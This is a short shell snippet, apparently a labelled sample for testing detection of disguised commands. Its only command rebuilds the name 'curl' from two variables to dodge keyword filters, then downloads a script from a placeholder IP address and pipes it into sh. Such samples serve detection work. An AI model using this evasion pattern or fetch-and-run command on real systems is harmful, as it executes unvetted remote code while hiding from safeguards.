# assembled-name: the downloader's name is joined from two variables
a=cu
b=rl
"$a$b" -fsSL http://203.0.113.7/boot.sh | sh
